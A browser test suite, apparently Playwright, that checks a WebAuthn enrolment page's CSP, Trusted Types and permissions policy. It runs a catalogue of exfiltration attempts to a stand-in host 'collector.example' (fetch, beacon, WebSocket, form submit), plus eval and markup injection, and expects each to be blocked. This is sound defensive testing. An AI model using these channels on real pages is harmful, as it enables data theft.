import { vendorOptions } from "../fakes/vendor-options.ts";
import { enrolmentOptions, expect, plugIn, test } from "./opened.ts";

/** What somebody else's script could do if it came to stand in the place of ours: talk to main in two words. */

const elsewhere = "https://collector.example";

type Attempts = Readonly<Record<string, readonly [code: string, outcome: string]>>;

/**
 * Makes every attempt, one after the other, as the page's own script and not through DevTools, which are above the
 * page's policies. What each gives, how it fails or what blocks it ends up in the document's title.
 */
const script = (attempts: Attempts): string => `
  const elsewhere = ${JSON.stringify(elsewhere)};
  const never = () => new Promise(() => {});
  const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
  const blockedBy = (directive) => new Promise((resolve) => addEventListener("securitypolicyviolation",
    ({ effectiveDirective }) => { if (effectiveDirective === directive) resolve("blocked by " + directive); }));
  const outcomes = {};
  const attempt = async (name, directive, run) => {
    outcomes[name] = await Promise.race([blockedBy(directive), run().catch((thrown) => "refused: " + thrown.name)]);
  };
  addEventListener("load", async () => {
    ${Object.entries(attempts)
      .map(([name, [code, outcome]]) => {
        const directive = outcome.replace("blocked by ", "");
        return `await attempt(${JSON.stringify(name)}, ${JSON.stringify(directive)}, async () => { ${code} });`;
      })
      .join("\n")}
    document.title = JSON.stringify(outcomes);
  });`;

const expected = (attempts: Attempts) =>
  Object.fromEntries(Object.entries(attempts).map(([name, [, outcome]]) => [name, outcome]));

const groups: Readonly<Record<string, Attempts>> = {
  "no way leads to the network": {
    "fetch elsewhere": ["fetch(elsewhere).catch(never); return never()", "blocked by connect-src"],
    "fetch at home": ["fetch('/').catch(never); return never()", "blocked by connect-src"],
    XMLHttpRequest: [
      "const request = new XMLHttpRequest(); request.open('GET', elsewhere); request.send(); return never()",
      "blocked by connect-src",
    ],
    "a beacon": ["navigator.sendBeacon(elsewhere, 'x'); return never()", "blocked by connect-src"],
    WebSocket: ["new WebSocket('wss://collector.example'); return never()", "blocked by connect-src"],
    EventSource: ["new EventSource(elsewhere); return never()", "blocked by connect-src"],
    WebTransport: ["new WebTransport(elsewhere).ready.catch(never); return never()", "blocked by connect-src"],
    "an image": ["new Image().src = elsewhere + '/x.png'; return never()", "blocked by img-src"],
    "an image at home": ["new Image().src = '/x.png'; return never()", "blocked by img-src"],
    "a module": ["import(elsewhere + '/x.js').catch(never); return never()", "blocked by script-src-elem"],
    "a style sheet": [
      "add('link', { rel: 'stylesheet', href: elsewhere }); return never()",
      "blocked by style-src-elem",
    ],
    "a font": [
      "new FontFace('f', 'url(' + elsewhere + ')').load().catch(never); return never()",
      "blocked by font-src",
    ],
    "a frame": ["add('iframe', { src: elsewhere }); return never()", "blocked by frame-src"],
    "an object": ["add('object', { data: elsewhere }); return never()", "refused: TypeError"],
    "a video": ["add('video', { src: elsewhere }); return never()", "blocked by media-src"],
    "a worker": ["new Worker('/page.js'); return never()", "refused: TypeError"],
    "a service worker": [
      "await navigator.serviceWorker.register('/page.js'); return 'registered'",
      "refused: TypeError",
    ],
    "a prefetch": ["add('link', { rel: 'prefetch', href: elsewhere }); return never()", "blocked by default-src"],
  },
  "no text becomes code, style or markup": {
    eval: ["return eval('1 + 1')", "refused: EvalError"],
    "new Function": ["return new Function('return 1')()", "refused: EvalError"],
    "a timer": ["setTimeout('document.title = 1'); return never()", "refused: TypeError"],
    "an inline script": [
      "const s = document.createElement('script'); s.text = 'x'; document.head.append(s); return never()",
      "refused: TypeError",
    ],
    "a script's address": ["add('script', { src: '/page.js' }); return 'loaded'", "refused: TypeError"],
    markup: ["document.body.innerHTML = '<b>x</b>'; return 'written'", "refused: TypeError"],
    "a handler": [
      "document.body.setAttribute('onclick', 'x()'); document.body.click(); return never()",
      "refused: TypeError",
    ],
    "a policy of one's own": [
      "trustedTypes.createPolicy('mine', { createHTML: (x) => x }); return 'made'",
      "refused: TypeError",
    ],
    "an inline style": ["add('style', { textContent: 'b{}' }); return never()", "blocked by style-src-elem"],
    "a base": ["add('base', { href: elsewhere }); return never()", "blocked by base-uri"],
  },
  "no power of the browser is left but the one": {
    "by the browser's own list": [
      "return document.featurePolicy.allowedFeatures().join(' ')",
      "publickey-credentials-create",
    ],
    "using a credential": [
      "return await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } })",
      "refused: NotAllowedError",
    ],
    "the screen": ["return await navigator.mediaDevices.getDisplayMedia()", "refused: NotAllowedError"],
    "reading the clipboard": ["return await navigator.clipboard.readText()", "refused: NotAllowedError"],
    "writing the clipboard": ["return await navigator.clipboard.writeText('x')", "refused: NotAllowedError"],
    "USB devices": ["return (await navigator.usb.getDevices()).length", "refused: SecurityError"],
    "HID devices": ["return (await navigator.hid.getDevices()).length", "refused: SecurityError"],
    "serial ports": ["return (await navigator.serial.getPorts()).length", "refused: SecurityError"],
    MIDI: ["return await navigator.requestMIDIAccess()", "refused: SecurityError"],
    fonts: ["return (await queryLocalFonts()).length", "refused: SecurityError"],
    "the whole screen": ["return await document.body.requestFullscreen()", "refused: TypeError"],
  },
};

for (const [name, attempts] of Object.entries(groups)) {
  test(name, async ({ page, open }) => {
    const opened = await open(null, { script: script(attempts) });
    await expect(page).toHaveTitle(/^\{/);
    expect(JSON.parse(await page.title())).toEqual(expected(attempts));
    // Blocked out loud; that nothing was asked for is checked at the end of every test.
    opened.complaints.length = 0;
  });
}

test("no form leads out", async ({ open }) => {
  // On its own: the page never learns that it was blocked.
  const code = `const form = document.createElement("form"); form.action = ${JSON.stringify(elsewhere)};
    document.body.append(form); form.submit();`;
  const opened = await open(null, { script: `addEventListener("load", () => { ${code} });` });
  await expect.poll(() => opened.complaints.splice(0).join()).toContain("form-action 'none'");
});

test("a page elsewhere cannot put it into a frame", async ({ page, open }) => {
  const opened = await open(enrolmentOptions(vendorOptions()));
  await page.route(`${elsewhere}/**`, (route) =>
    route.fulfill({ contentType: "text/html", body: '<iframe src="https://app.pingone.eu/"></iframe>' }),
  );
  await page.goto(elsewhere);
  const frame = page.frames().find((each) => each !== page.mainFrame());
  await expect(async () => expect(frame?.url()).toMatch(/^chrome-error:/)).toPass();
  expect(opened.complaints.splice(0).join("\n")).toContain("frame-ancestors 'none'");
  // The document was asked for, and thrown away before it could ask for its script.
  expect(opened.requests.splice(2)).toEqual(["200 https://app.pingone.eu/"]);
});

test("another script in its place gets no credential for another identity", async ({ page, open }) => {
  await plugIn(page);
  const create = `await navigator.credentials.create({ publicKey: {
    rp: { id: "pingone.com", name: "x" }, user: { id: new Uint8Array(8), name: "x", displayName: "x" },
    challenge: new Uint8Array(32), pubKeyCredParams: [{ type: "public-key", alg: -7 }, { type: "public-key", alg: -257 }] } });
    return "made"`;
  const attempts: Attempts = { create: [create, "refused: SecurityError"] };
  await open(null, { script: script(attempts) });
  await expect(page).toHaveTitle(JSON.stringify(expected(attempts)));
});
